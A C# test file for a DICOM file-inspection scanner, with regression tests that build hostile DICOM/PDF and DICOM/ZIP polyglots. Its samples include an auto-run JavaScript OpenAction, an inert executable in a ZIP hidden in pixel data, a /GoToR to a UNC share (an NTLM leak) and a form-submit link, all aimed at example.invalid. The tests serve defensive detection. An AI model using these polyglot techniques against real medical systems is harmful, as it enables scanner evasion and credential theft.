using System.Text;
using Vigie.Dicom;
using Vigie.Inspection.Tests.Samples;
using static Vigie.Inspection.Tests.Dicom.DicomThreatSamples;

namespace Vigie.Inspection.Tests.Dicom;

/// <summary>Review 18: the readings of a whole file, made on what a reader of a deflated object's served copy sees.</summary>
public sealed class DeflatedPolyglotTests
{
    private static readonly byte[] PdfObjects = Even(Encoding.ASCII.GetBytes(
        "\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
        + "3 0 obj\n<</S/JavaScript/JS(app.alert\\(\"VIGIE-TEST-MARKER\"\\))>>\nendobj\ntrailer\n<</Root 1 0 R/Size 4>>\n%%EOF\n"));

    private static byte[] Even(byte[] bytes) => bytes.Length % 2 == 0 ? bytes : [.. bytes, (byte)'\n'];

    /// <summary>A Manufacturer value list whose second value is a PDF header (the value does not start with it), and PDF objects in a private OB.</summary>
    internal static DicomDataset PdfPolyglot(byte[] objects)
    {
        var ds = Image(8, 8);
        ds.SetString(DicomTags.Manufacturer, DicomVR.LO, "ACME\\%PDF-1.4");
        ds.SetString(new DicomTag(0x7FE1, 0x0010), DicomVR.LO, "ACME 1.0");
        ds.SetBytes(new DicomTag(0x7FE1, 0x1010), DicomVR.OB, objects);
        return ds;
    }

    /// <summary>A 64 x 64 8-bit image whose last pixel bytes are a ZIP holding an inert PE (not at a frame's start).</summary>
    internal static DicomDataset ZipInLastPixels()
    {
        var zip = new ZipBuilder().Add("run.exe", PeHeader(512)).Build();
        var ds = Image(64, 64);
        ds.SetUInt16(DicomTags.BitsAllocated, 8);
        ds.SetUInt16(DicomTags.BitsStored, 8);
        ds.SetUInt16(DicomTags.HighBit, 7);
        var pixels = new byte[64 * 64];
        zip.CopyTo(pixels, pixels.Length - zip.Length);
        ds.SetBytes(DicomTags.PixelData, DicomVR.OB, pixels);
        return ds;
    }

    /// <summary>
    /// Regression (review 18, defect 1): in a Deflated Explicit VR Little Endian object the PDF header in the data set's
    /// first kilobyte (Manufacturer "ACME\%PDF-1.4", the PDF's objects in a private OB) and a ZIP in the last pixel bytes
    /// were looked for in the compressed bytes only: scan clean, C-STORE 0000, while the copy the node serves (inflated)
    /// opens as a PDF with an auto-run script, or as a ZIP holding a program. Both are now read on the inflated data set,
    /// whatever the sender's syntax; a deflated benign report, a deflated clean image and a ZIP a value holds are unchanged.
    /// </summary>
    [Fact]
    public async Task Regression_a_deflated_polyglot_was_read_on_its_compressed_bytes()
    {
        foreach (var syntax in new[] { TransferSyntax.ExplicitVRLittleEndian, TransferSyntax.DeflatedExplicitVRLittleEndian })
        {
            var pdf = await TestInspection.InspectAsync(File(PdfPolyglot(PdfObjects), syntax: syntax), "study.dcm");
            Assert.True(pdf.Kind == VerdictKind.Malicious, $"{syntax.Name}: {pdf.Describe()}");
            Assert.Contains(pdf.Findings, f => f.Rule == "pdf.open-action" && f.Severity == Severity.High
                && f.InnerPath.StartsWith(syntax.IsDeflated ? "[as a PDF reader opens it, from inflated offset" : "[as a PDF reader opens it, from offset", StringComparison.Ordinal));

            var zip = await TestInspection.InspectAsync(File(ZipInLastPixels(), syntax: syntax), "study.dcm");
            Assert.True(zip.Kind == VerdictKind.Malicious, $"{syntax.Name}: {zip.Describe()}");
            zip.Has("inspection.appended-archive");
            Assert.Contains(zip.Findings, f => f.Rule == "executable.pe" && f.InnerPath == (syntax.IsDeflated ? "[appended zip](inflated)/run.exe" : "[appended zip]/run.exe"));
        }

        // Unchanged: a clean deflated image, a benign deflated report whose PDF header lies in the data set's first
        // kilobyte, and a ZIP that a private value holds (read once, as the value's file, not as an appended archive).
        (await TestInspection.InspectAsync(File(Image(64, 64), syntax: TransferSyntax.DeflatedExplicitVRLittleEndian), "study.dcm")).IsClean();
        var report = new DicomDataset();
        report.SetString(DicomTags.SOPClassUID, DicomVR.UI, DicomUids.EncapsulatedPDFStorage);
        report.SetString(DicomTags.SOPInstanceUID, DicomVR.UI, "2.25.1818");
        report.SetString(DicomTags.Modality, DicomVR.CS, "DOC");
        report.SetString(DicomTags.MIMETypeOfEncapsulatedDocument, DicomVR.LO, "application/pdf");
        report.SetBytes(DicomTags.EncapsulatedDocument, DicomVR.OB, Even(PdfBuilder.Document().Build()));
        (await TestInspection.InspectAsync(File(report, syntax: TransferSyntax.DeflatedExplicitVRLittleEndian), "report.dcm")).IsClean();

        var zipped = new ZipBuilder().Add("inner/eicar.com", Encoding.ASCII.GetString(Signatures.SignatureSamples.Eicar())).Build();
        var holder = Image();
        holder.SetString(new DicomTag(0x0009, 0x0010), DicomVR.LO, "SYNTH CREATOR");
        holder.SetBytes(new DicomTag(0x0009, 0x1001), DicomVR.OB, zipped);
        holder.Remove(DicomTags.PixelData);
        var held = await TestInspection.InspectAsync(File(holder, syntax: TransferSyntax.DeflatedExplicitVRLittleEndian), "study.dcm");
        Assert.Equal("(0009,1001)/inner/eicar.com", Assert.Single(held.Findings, f => f.Rule == "signature.hash").InnerPath);
        held.HasNo("inspection.appended-archive");
    }

    /// <summary>
    /// Regression (review 18, defect 2): in the "as a PDF reader opens it" second reading every Medium finding was Info,
    /// active content included: a DICOM/PDF polyglot whose page runs /GoToR to \\host\share when it opens (the NTLM
    /// leak), or whose link submits the form, scanned clean and was stored, while the same PDF as an Encapsulated PDF
    /// was refused (pdf.additional-actions Medium). Actions keep their severity there; structure stays Info.
    /// </summary>
    [Fact]
    public async Task Regression_active_pdf_content_was_lowered_to_info_in_the_second_reading()
    {
        const string Head = "\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n";
        const string Tail = "trailer\n<</Root 1 0 R/Size 5>>\n%%EOF\n";
        var pages = new (string Page, string[] Rules)[]
        {
            ("3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 10 10]/AA<</O<</S/GoToR/F(\\\\\\\\example.invalid\\\\share\\\\x.pdf)/D[0 /Fit]>>>>>>\nendobj\n",
                ["pdf.additional-actions", "pdf.goto-remote"]),
            ("3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 10 10]/Annots[4 0 R]>>\nendobj\n4 0 obj\n<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A <</S/SubmitForm/F<</FS/URL/F(http://example.invalid/x)>>>>>>\nendobj\n",
                ["pdf.submit-form"]),
        };
        foreach (var (page, rules) in pages)
        {
            var objects = Even(Encoding.ASCII.GetBytes(Head + page + Tail));
            foreach (var syntax in new[] { TransferSyntax.ExplicitVRLittleEndian, TransferSyntax.DeflatedExplicitVRLittleEndian })
            {
                var verdict = await TestInspection.InspectAsync(File(PdfPolyglot(objects), syntax: syntax), "study.dcm");
                Assert.True(verdict.Kind != VerdictKind.Clean, $"{syntax.Name}: {verdict.Describe()}");
                foreach (var rule in rules)
                {
                    Assert.Contains(verdict.Findings, f => f.Rule == rule && f.Severity == Severity.Medium
                        && f.InnerPath.StartsWith("[as a PDF reader opens it, from", StringComparison.Ordinal));
                }

                // What is only odd in a PDF read out of a DICOM file is still noted, not held against it.
                Assert.All(verdict.Findings.Where(f => f.InnerPath.StartsWith("[as a PDF reader opens it", StringComparison.Ordinal) && f.Rule is "pdf.malformed" or "pdf.header-offset"),
                    f => Assert.Equal(Severity.Info, f.Severity));
            }

            // The same PDF as the document of an Encapsulated PDF: the same rules, the same severity.
            var report = new DicomDataset();
            report.SetString(DicomTags.SOPClassUID, DicomVR.UI, DicomUids.EncapsulatedPDFStorage);
            report.SetString(DicomTags.SOPInstanceUID, DicomVR.UI, "2.25.1819");
            report.SetString(DicomTags.Modality, DicomVR.CS, "DOC");
            report.SetString(DicomTags.MIMETypeOfEncapsulatedDocument, DicomVR.LO, "application/pdf");
            report.SetBytes(DicomTags.EncapsulatedDocument, DicomVR.OB, Even([.. "%PDF-1.4"u8, .. objects]));
            var encapsulated = await TestInspection.InspectAsync(File(report), "report.dcm");
            foreach (var rule in rules)
            {
                Assert.Equal(Severity.Medium, encapsulated.Has(rule).Severity);
            }
        }
    }
}
